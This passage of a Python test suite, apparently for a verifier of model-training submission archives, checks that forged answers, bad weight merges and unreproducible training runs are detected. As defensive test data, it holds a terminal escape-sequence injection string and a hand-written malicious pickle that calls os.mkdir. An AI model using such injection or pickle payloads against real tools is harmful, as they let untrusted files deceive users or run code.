    errors = {item["message"] for item in report["findings"] if item["severity"] == "error"}
    assert status == 1 and {f"{identifier} has no exceptions" for identifier in unexceptable} <= errors


def test_an_entry_with_exceptions_has_its_own_status(packed, capsys):
    Path("solution/requirements.txt").write_text("ours\n")
    grant(("R1", "solution/requirements.txt"))
    forge()
    status, report = check("--inputs", "input")
    assert status == 3 and report["valid"]
    assert "valid but for exceptions" in " ".join(capsys.readouterr().out.split())


def test_validation_is_not_trusted(packed):
    """Other rules, another experiment or an error in validation.json, or none at all."""
    good = json.loads(Path(VALIDATION).read_text())
    changes = [
        {"rules": {"name": "online_2024", "version": 1}},
        {"experiment": "other"},
        {"scale": "track_200k"},
        {"valid": False},
    ]
    for change in changes:
        write_json(VALIDATION, good | change)
        with zipfile.ZipFile("submit.zip", "w") as archive:
            for name in Entry(Path(), "synth", ruleset.load("embedded")).members():
                archive.write(name)
        status, report = check("--inputs", "input")
        assert status == 1 and "V1" in {finding["id"] for finding in report["findings"]}, change
    text = json.dumps(good, ensure_ascii=False, indent=2)
    # the last of two equal keys counts, for Python
    twice = text.replace('"valid"', '"valid": false,\n  "valid"') + "\n"
    for other, said in ((text, "is not as the toolkit writes it"), (twice, "the key valid is there twice")):
        Path(VALIDATION).write_text(other)
        with zipfile.ZipFile("submit.zip", "w") as archive:
            for name in Entry(Path(), "synth", ruleset.load("embedded")).members():
                archive.write(name)
        status, report = check("--inputs", "input")
        assert status == 1 and any(
            said in finding["message"] for finding in report["findings"] if finding["id"] == "V1"
        )
    Path(VALIDATION).unlink()
    forge()
    assert check("--inputs", "input")[0] == 1


def test_another_seed_than_the_registrys(packed, monkeypatch):
    """Inputs that the toolkit draws itself are made anew: an entry with its own seed or questions is found
    out."""
    monkeypatch.setenv("PYTHONPATH", str(REPOSITORY))
    drawn, evaluation = Inputs.asset, "world-evaluation"  # the others would be drawn in the same way
    monkeypatch.setattr(Inputs, "asset", lambda self, name: drawn(self, name) if name == evaluation else None)
    status, report = check()
    assert status == 1
    assert [
        finding
        for finding in report["findings"]
        if finding["id"] == "P1" and "world-evaluation" in finding["message"]
    ]


def test_a_second_experiment(packed):
    with zipfile.ZipFile("submit.zip", "a") as archive:
        info = zipfile.ZipInfo("output/training_dirs/MGM-Tiny-Pretrain-other/run.json")
        info.create_system, info.external_attr = 3, 0o100644 << 16
        archive.writestr(info, "{}")
    status, report = check()
    assert status == 1 and {finding["id"] for finding in report["findings"]} >= {"V1"}


STEERING = "\x1b[2J\x1b[31m\x9b1A\u202e[/bold][link=x]\nsubmit.zip: valid"


def test_what_an_archive_says_does_not_steer_the_terminal(packed, nothing_made, capsys):
    """Escape sequences, directions of writing, line ends and markup in records, rows, logs and exceptions."""

    def change(record: dict) -> None:
        record["inputs"]["clip"]["path"] = f"input/{STEERING}"
        record["stage"], record["device"] = STEERING, STEERING

    edit(Path(f"{TREE.pretrain}/run.json"), change)
    edit(
        Path(f"{RESULTS}/textvqa/score.json"), lambda value: value.update({STEERING: 1, "accuracy": STEERING})
    )
    Path("solution/exceptions.yaml").write_text(
        json.dumps([{"id": STEERING, "file": "a", "reason": STEERING}]) + "\n"
    )
    change_rows(ANSWERS, lambda row: row.update(text=STEERING, question_id=STEERING))
    rehash()
    forge()
    capsys.readouterr()
    assert check()[0] == 1
    shown = capsys.readouterr()
    assert main(["bundle", "explain", "submit.zip"]) in (0, 1)
    told = capsys.readouterr()
    for text in (shown.out, shown.err, told.out, told.err, Path("verify.json").read_text()):
        assert not any(sign in text for sign in "\x1b\x9b\u202e") and "\nsubmit.zip: valid" not in text
    assert "NOT VALID" in shown.out and "[/bold]" in "".join(shown.out.split())


def test_names_of_an_experiment_are_no_patterns(packed, nothing_made):
    """They stand in glob patterns."""
    with zipfile.ZipFile("submit.zip", "w") as archive:
        for part in ("Pretrain", "Finetune"):
            info = zipfile.ZipInfo(f"output/training_dirs/MGM-Tiny-{part}-{'[*]?' * 40}/run.json")
            info.create_system, info.external_attr = 3, 0o100644 << 16
            archive.writestr(info, "{}")
    assert {finding["id"] for finding in check()[1]["findings"]} <= {"V1", "Z2"}


def test_more_text_than_is_searched(packed, nothing_made, monkeypatch):
    monkeypatch.setattr("toolkit.bundle.zip.packed.TEXTS", 1000)
    status, report = check()
    assert status == 1 and "S4" in {finding["id"] for finding in report["findings"]}
    assert any("with it there is more text than" in finding["message"] for finding in report["findings"])


def test_no_archive(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main(["bundle", "verify", "nothing.zip"]) == 1
    assert "nothing.zip is not a file" in capsys.readouterr().err


def remerge(tensors: dict) -> None:
    """Other merged weights, with the records, the answers and the archive that fit them."""
    save_file(tensors, SHARD)
    TREE.merge_record()
    shutil.rmtree(RESULTS)
    TREE.evaluate("synth", right=0.7)
    TREE.comparison()
    rehash()
    forge()


@pytest.fixture
def merge_only(monkeypatch):
    """The entry's weights are not a model that could answer."""
    monkeypatch.setattr("toolkit.bundle.checks.reproduced.reproduced", lambda run, model, sample, remarks: [])


def deep(*options: str) -> set[str]:
    """Messages of M2."""
    status, report = check("--deep", "5", *options)
    findings = {finding["message"] for finding in report["findings"] if finding["id"] == "M2"}
    assert status == int(not report["valid"]) and (status == 1 or not findings)
    return findings


def test_deep(packed, merge_only):
    assert deep("--inputs", "input", "--base", "input/world-gemma") == set()
    report = json.loads(Path("verify.json").read_text())
    assert (
        report["valid"]
        and "1 with base + scaled BA, 1 with the base, 1 with the finetuned projector" in report["deep"][0]
    )
    assert (
        deep("--inputs", "input") == set() and len(json.loads(Path("verify.json").read_text())["deep"]) == 2
    )


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        (f"{LAYER}.weight", BASE[f"{LAYER}.weight"], "is not base + scaled BA: 4 of 4"),
        (
            f"{LAYER}.weight",
            BASE[f"{LAYER}.weight"] + ADAPTER["B"] @ ADAPTER["A"],
            "is not base + scaled BA: 4 of 4",
        ),
        (f"{LAYER}.weight", merged()[f"{LAYER}.weight"] + 1e-5, "is not base + scaled BA"),
        ("model.norm.weight", BASE["model.norm.weight"] * 1.5, "is not the base: 2 of 2"),
        (PROJECTOR, BASE["model.norm.weight"] * 3, "is not the finetuned projector"),
        (PROJECTOR, None, "is missing"),
        ("model.norm.weight", None, "is missing"),
    ],
)
def test_deep_finds_another_merge(packed, merge_only, name, value, words):
    tensors = merged() | {name: value}
    remerge({name: tensor for name, tensor in tensors.items() if tensor is not None})
    assert any(
        name.removesuffix(".weight") in message and words in message for message in deep("--inputs", "input")
    )


def test_deep_finds_an_adapter_that_changes_nothing(packed, merge_only):
    """B is zero: the merged model is base + 0, and the record that says otherwise lies."""
    halves = {
        f"base_model.model.{LAYER}.lora_{half}.weight": value * (half == "A")
        for half, value in ADAPTER.items()
    }
    save_file(halves, f"{FINETUNE}/adapter_model.safetensors")
    remerge(merged() | {f"{LAYER}.weight": BASE[f"{LAYER}.weight"]})
    assert any(
        "states 1 tensors that the adapter changed, there are 0" in message
        for message in deep("--inputs", "input")
    )


def test_findings_call_files_as_the_entry_does(packed, monkeypatch):
    """Not by the folders that they were copied, merged or trained into for a check."""
    config = f"{FINETUNE}/config.json"

    def merge(run, folder):
        raise UserError(f"{run.path(config)} is not that of {folder / 'merged/config.json'}")

    def train(entry, stage, folder, output, steps):
        raise UserError(f"{output / 'run.json'} is refused")

    monkeypatch.setattr("toolkit.bundle.checks.retrained._train", train)
    assert again("1")[0] == {f"{FINETUNE}/run.json is refused"}
    monkeypatch.setattr("toolkit.bundle.checks.remerged.merged_again", merge)
    findings = check("--inputs", "input")[1]["findings"]
    assert {finding["message"] for finding in findings} == {
        f"{config} is not that of {FINETUNE}/merged/config.json"
    }


def test_findings_call_inputs_that_were_made_for_a_check_as_the_records_do(tmp_path):
    made = Inputs(None, tmp_path / "inputs/input").asset("world-clip")
    finding = Finding("M2", "", f"{made / 'config.json'} is another", "merge again")
    assert named(finding, tmp_path).message == "input/world-clip/config.json is another"


def test_deep_without_the_base(packed, nothing_made, merge_only):
    assert deep() == set()
    assert "2 tensors not proved" in str(json.loads(Path("verify.json").read_text())["deep"])


def test_deep_wants_the_base_of_the_records(packed, merge_only, tmp_path):
    save_file(merged(), tmp_path / "model.safetensors")
    assert any(
        "is not the file that" in message for message in deep("--inputs", "input", "--base", str(tmp_path))
    )


class Model:
    """Stands for the packed model: gives the answers that the honest files hold, with the own images and with
    the exchanged ones; `ties` are other texts that rounding could lead to."""

    ties: tuple[str, ...] = ()
    texts: dict[tuple[str, str], str]

    def __init__(self, folder: Path):
        assert (folder / Path(SHARD).name).is_file()
        self.device = torch.device("cpu")

    @classmethod
    def learn(cls) -> None:
        """Take the answers that are in the files now."""
        cls.texts = {}
        entry = Entry(Path(), "synth", ruleset.load("embedded"))
        for benchmark, file in entry.answers.items():
            asked = answers.questions(entry, benchmark)
            pairs = [*zip(asked, entry.rows(file), strict=True)]
            pairs += zip(control.exchanged(asked), entry.rows(entry.control(benchmark)), strict=True)
            cls.texts |= {(question.message, question.image): row["text"] for question, row in pairs}

    def stream(self, messages, names, load, max_new_tokens):
        yield from enumerate(self.texts[pair] for pair in zip(messages, names, strict=True))

    def near(self, message, image, text, max_new_tokens, tolerance):
        return text in self.ties


@pytest.fixture
def asked(packed, monkeypatch):
    """A packed entry with a model that can be asked."""
    monkeypatch.setattr(
        "toolkit.benchmarks.textvqa.folder_images", lambda folder, questions: lambda question: question.image
    )
    monkeypatch.setattr("toolkit.benchmarks.mmbench.inline_image", lambda question: question.image)
    monkeypatch.setattr("toolkit.bundle.checks.reproduced.Answerer", Model)
    Model.learn()
    return packed


def deceived() -> dict[str, str]:
    """Message by file of E4."""
    return {
        item["file"]: item["message"]
        for item in check("--deep", "all", "--inputs", "input")[1]["findings"]
        if item["id"] == "E4"
    }


def answer_otherwise(file: str, places: list[int], text: str) -> None:
    """Forged answers, and everything that follows from them."""
    rows = [json.loads(line) for line in Path(file).read_text().splitlines()]
    for place in places:
        rows[place]["text"] = text
    Path(file).write_text("".join(json.dumps(row) + "\n" for row in rows))
    TREE.score("synth")
    TREE.comparison()
    forge()


def test_deep_asks_again(asked):
    status, report = check("--deep", "all", "--inputs", "input", "--seed", "5")
    assert status == 0
    lines = [line for line in report["deep"] if line.startswith("E4")]
    assert "seed 5" in lines[0] and any(
        f"{ANSWERS}: 20 of 20 answers are reproduced" in line for line in lines
    )
    assert any("5 %: 20" in line and "of 20" in line for line in lines)


def test_deep_finds_one_forged_answer(asked):
    """Not outweighed by the others, nor by the image-swap control."""
    answer_otherwise(ANSWERS, [3], "zulu")
    assert set(deceived()) == {ANSWERS} and "1 of 20 answers are not" in deceived()[ANSWERS]


def test_deep_finds_one_forged_answer_of_the_control(asked):
    answer_otherwise(f"{RESULTS}/mmbench/control.jsonl", [7], "E")
    assert set(deceived()) == {f"{RESULTS}/mmbench/control.jsonl"}


def test_deep_allows_near_ties_and_few_of_them(asked, monkeypatch):
    monkeypatch.setattr(Model, "ties", ("E",))
    answer_otherwise(MMBENCH, [5], "E")
    assert deceived() == {}
    answer_otherwise(MMBENCH, list(range(20)), "E")
    assert "more near-ties than rounding makes" in deceived()[MMBENCH]


def test_the_draw_is_the_reviewers(asked):
    """By default from the system's own seed, which nobody who makes an archive can know; and it can be
    repeated."""
    sample = Sample(10, 7)
    assert (
        sample.places(ANSWERS, 100)
        == Sample(10, 7).places(ANSWERS, 100)
        != Sample(10, 8).places(ANSWERS, 100)
    )
    seeds = set()
    for _ in range(2):
        line = next(line for line in check("--deep", "5", "--inputs", "input")[1]["deep"] if "seed" in line)
        seeds.add(line)
    assert len(seeds) == 2


@pytest.mark.parametrize(
    ("total", "forged", "count"), [(500, 5, 300), (500, 25, 83), (1600, 80, 88), (10, 10, 1), (10, 1, 10)]
)
def test_how_many_answers_find_a_forgery(total, forged, count):
    """With so many drawn the chance to miss all forged ones is at most 1 %, with one less it is more."""
    assert needed(total, forged) == count
    for drawn, enough in ((count, True), (count - 1, False)):
        missed = math.comb(total - forged, drawn) / math.comb(total, drawn)
        assert (missed <= 0.01) == enough


@pytest.mark.parametrize(
    ("options", "sentence"),
    [
        (["--base", "input/world-gemma"], "add --deep"),
        (["--seed", "7"], "add --deep"),
        (["--steps", "all"], "add --retrain"),
    ],
)
def test_an_option_without_what_it_is_for_is_refused(packed, options, sentence, capsys):
    assert main(["bundle", "verify", "submit.zip", *options]) == 1
    assert sentence in capsys.readouterr().err


@pytest.mark.parametrize(
    ("verb", "option"),
    [
        ("verify", "inputs"),
        ("verify", "base"),
        ("audit", "references"),
        ("audit", "seed-rows"),
        ("audit", "base"),
    ],
)
def test_what_an_option_names_has_to_be_there(packed, verb, option, capsys):
    """A check that lacks it would be left out, or named as not finished."""
    with pytest.raises(SystemExit):
        main(["bundle", verb, "submit.zip", f"--{option}", "nowhere"])
    assert "nowhere is not a f" in capsys.readouterr().err


@pytest.mark.parametrize("count", ["0", "-1", "some"])
def test_deep_wants_a_number(packed, count, capsys):
    assert main(["bundle", "verify", "submit.zip", f"--deep={count}"]) == 1
    assert "neither a number from 1 up nor all" in capsys.readouterr().err


@pytest.fixture
def trainer(monkeypatch):
    """A training that logs what the packed log has; `lines` can be changed, steps that were asked for are
    kept."""

    class Trained:
        steps: int | None = -1
        command = ()
        lines = ()
        factor = 1.15  # of the tensors that are packed

    def train(entry, stage, folder, output, steps):
        Trained.steps, Trained.command = steps, _command(entry, stage, output)
        output.mkdir(parents=True)
        scaled = {name: value * numpy.float32(Trained.factor) for name, value in ADAPTER.items()}
        layer = f"base_model.model.{LAYER}.lora_"
        save_file({f"{layer}{half}.weight": value for half, value in scaled.items()}, output / PACKED[0])
        shutil.copyfile(Path(FINETUNE, PACKED[1]), output / PACKED[1])
        return "cpu", Trained.lines[:steps]

    monkeypatch.setattr("toolkit.bundle.checks.retrained._train", train)
    return Trained


def again(steps: str) -> tuple[set[str], list[str]]:
    """Messages of T3 and remarks of a stage trained again."""
    report = check("--inputs", "input", "--retrain", "finetune", "--steps", steps)[1]
    return {item["message"] for item in report["findings"] if item["id"] == "T3"}, report["deep"]


def test_the_first_steps_are_trained_again(packed, trainer):
    trainer.lines = _lines(Path(FINETUNE, "finetune.log"))
    messages, remarks = again("2")
    assert messages == set() and trainer.steps == 2
    assert any("2 of 2 logged steps are the same" in line for line in remarks)


def test_training_again_finds_a_relative_folder_of_inputs_from_its_own(packed, trainer):
    trainer.lines = _lines(Path(FINETUNE, "finetune.log"))
    again("2")
    folders = dict(zip(trainer.command, trainer.command[1:], strict=False))
    for flag in ("--samples", "--images", "--llm", "--clip", "--convnext", "--projector"):
        assert Path(folders[flag]).is_absolute(), flag


def test_a_log_that_training_does_not_give(packed, trainer):
    lines = _lines(Path(FINETUNE, "finetune.log"))
    trainer.lines = [lines[0], lines[1] | {"loss": lines[1]["loss"] + 0.02}, *lines[2:]]
    assert any(message.startswith("step 2 logs loss") for message in again("3")[0])
    trainer.lines = [line | {"loss": line["loss"] + 0.0001} for line in lines]  # the last digit
    assert again("3")[0] == set()


def test_tensors_that_the_logged_training_does_not_leave(packed, trainer):
    trainer.lines = _lines(Path(FINETUNE, "finetune.log"))
    assert any("gives other tensors" in message for message in again("all")[0]) and trainer.steps is None
    trainer.factor = 1  # those that are packed
    messages, remarks = again("all")
    assert messages == set() and any("2 of 2 files of tensors are the same" in line for line in remarks)


def test_tensors_are_judged_where_the_log_differs_by_rounding(packed, trainer):
    """A last digit is no way out, and tensors that rounding changed are not others."""
    lines = _lines(Path(FINETUNE, "finetune.log"))
    trainer.lines = [*lines[:-1], lines[-1] | {"loss": lines[-1]["loss"] + 0.0001}]
    assert any("gives other tensors" in message for message in again("all")[0])
    trainer.factor = 1 + 1e-5
    messages, remarks = again("all")
    assert messages == set() and any("differs by 1.0e-05" in line for line in remarks)


def test_tensors_are_judged_whatever_device_a_record_states(packed, trainer):
    """Where the log is that of this kind of device; another kind's gives other tensors."""
    edit(Path(FINETUNE, "run.json"), lambda value: value.update(device="NVIDIA H200"))
    rehash()
    entry = Entry(Path(), "synth", ruleset.load("embedded"))
    trainer.lines = lines = _lines(Path(FINETUNE, "finetune.log"))
    assert [item.id for item in retrained(entry, "finetune", None, folder(1), [])] == ["T3"]
    trainer.lines = [*lines[:-1], lines[-1] | {"loss": lines[-1]["loss"] * 1.02}]
    remarks: list[str] = []
    assert list(retrained(entry, "finetune", None, folder(2), remarks)) == []
    assert "differs too much for adapter_model.safetensors to be judged" in remarks[-1]


def folder(number: int) -> Path:
    path = Path(f"retrained{number}")
    path.mkdir()
    return path


def test_no_pickle_is_run(packed):
    """A weights file whose pickle makes a folder: found by its opcodes, and no folder is made, even with
    --deep."""
    path = f"{FINETUNE}/non_lora_trainables.bin"
    entry_tree.text_of("")  # the pickle is written by hand
    torch_bin(path, {})
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02cos\nmkdir\nX\x05\x00\x00\x00owned\x85R.")
    rehash()
    forge()
    status, report = check("--deep", "5", "--inputs", "input")
    assert (
        status == 1
        and [finding["id"] for finding in report["findings"]] == ["Z9"]
        and not Path("owned").exists()
    )


def test_small_fuzz(packed, tmp_path):
    """Some mutations; the long run is `python tests/fuzz/run.py archive`."""
    content = Path("submit.zip").read_bytes()
    for number in range(40):
        kind, other, same = mutated(content, number)
        path = tmp_path / "mutated.zip"
        path.write_bytes(other)
        report = verify(path, inputs=Path("input"), make=False)
        assert not report.valid or same, (number, kind)
